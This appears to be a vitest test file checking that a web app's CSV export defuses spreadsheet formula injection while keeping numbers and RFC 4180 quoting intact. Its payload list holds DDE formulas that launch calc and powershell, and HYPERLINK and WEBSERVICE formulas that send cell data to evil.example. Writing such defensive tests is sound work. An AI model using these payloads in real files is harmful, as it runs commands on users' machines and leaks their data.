import { describe, expect, it } from 'vitest';
import { toCsv } from '../../web/src/components/ui/csv.ts';

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

const FORMULAS = [
  "cmd|' /C calc'!A0",
  '1+1',
  'HYPERLINK("https://evil.example?"&A1,"Click")',
  'SUM(A1:A9)*cmd|"/C powershell"!A0',
  'WEBSERVICE("https://evil.example/"&B2)',
];

const BEFORE = ['', ' ', '\t', '\r', '\n'];

const PAYLOADS = SIGNS.flatMap((sign) =>
  FORMULAS.flatMap((formula) => BEFORE.map((before) => `${before}${sign}${formula}`)),
);

/**
 * Parses RFC 4180, independently of the code under test.
 * @param separator how a spreadsheet of another country reads the file
 */
function parse(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let at = 0;
  while (at < text.length) {
    let value = '';
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (at >= text.length) throw new Error('A quoted cell has no end');
        if (text[at] === '"') at += 1;
        value += text[at];
      }
      at += 1;
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n') value += text[at++];
    rows.at(-1)?.push(value);
    if (text[at] === separator) {
      at += 1;
      continue;
    }
    at += text.startsWith('\r\n', at) ? 2 : 1;
    if (at < text.length) rows.push([]);
  }
  return rows;
}

const columns = [
  { header: 'Name', value: ({ name }: { name: Value }) => name },
  { header: 'After', value: () => 'end' },
];

type Value = string | number | undefined;
const exported = (...names: Value[]) =>
  toCsv(
    columns,
    Array.from(names, (name) => ({ name })),
  );
/** Writes the text as a line's second cell, where quotes do not protect it if a spreadsheet splits at semicolons. */
const afterAnother = (text: string) =>
  toCsv([{ header: 'Number', value: () => 'TX-17' }, ...columns], [{ name: text }]).slice(1);
const cellOf = (name: Value) => parse(exported(name).slice(1))[1]?.[0];

const isLive = (cell: string) => /^[\s\0"]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('formulas in exports (ASVS 1.2.10, 1.3.3)', () => {
  it('each of 200 formulas is a text in the file, and after a semicolon where semicolons separate cells', () => {
    expect(PAYLOADS.filter(isLive)).toHaveLength(200);
    for (const payload of PAYLOADS) {
      const rows = parse(exported(payload).slice(1));
      const text = `'${payload.replace(/([\t\r\n])(?=[=+\-@＝＋－＠])/g, "$1'")}`;
      expect(rows).toEqual([
        ['Name', 'After'],
        [text, 'end'],
      ]);
      expect(rows.flat().filter(isLive), payload).toEqual([]);
      const cells = parse(afterAnother(`Amelie;${payload};Thornbury`), ';').flat();
      expect(cells.length).toBeGreaterThan(3);
      expect(cells.filter(isLive), payload).toEqual([]);
    }
  });

  it('a formula is a text after a control character, a zero-width space and a zero', () => {
    for (const hidden of ['\0', '\u200B', '\u00A0']) expect(cellOf(`${hidden}=1+1`)).toBe(`'${hidden}=1+1`);
  });

  it('the export leaves numbers as numbers, and a cell without a value empty', () => {
    expect(cellOf(undefined)).toBe('');
    expect(exported('-12.50', -12.5, 0, 1e21, '17')).toBe(
      '\u{FEFF}Name,After\r\n-12.50,end\r\n-12.5,end\r\n0,end\r\n1e+21,end\r\n17,end\r\n',
    );
    for (const almost of ['-12.50-', '-1+2', '--1', '-', '+12.50', '-1e5', '-.5'])
      expect(cellOf(almost)).toBe(`'${almost}`);
  });
});

it('a CSV file preserves commas, quotes, line breaks and other scripts', () => {
  const names = ['Thornbury, Amelie', 'the "Moor"', 'two\r\nlines', '  spaces  ', 'Żółć 日本 🏦', '', "O'Hara"];
  expect(parse(exported(...names).slice(1)).slice(1)).toEqual(names.map((name) => [name, 'end']));
});
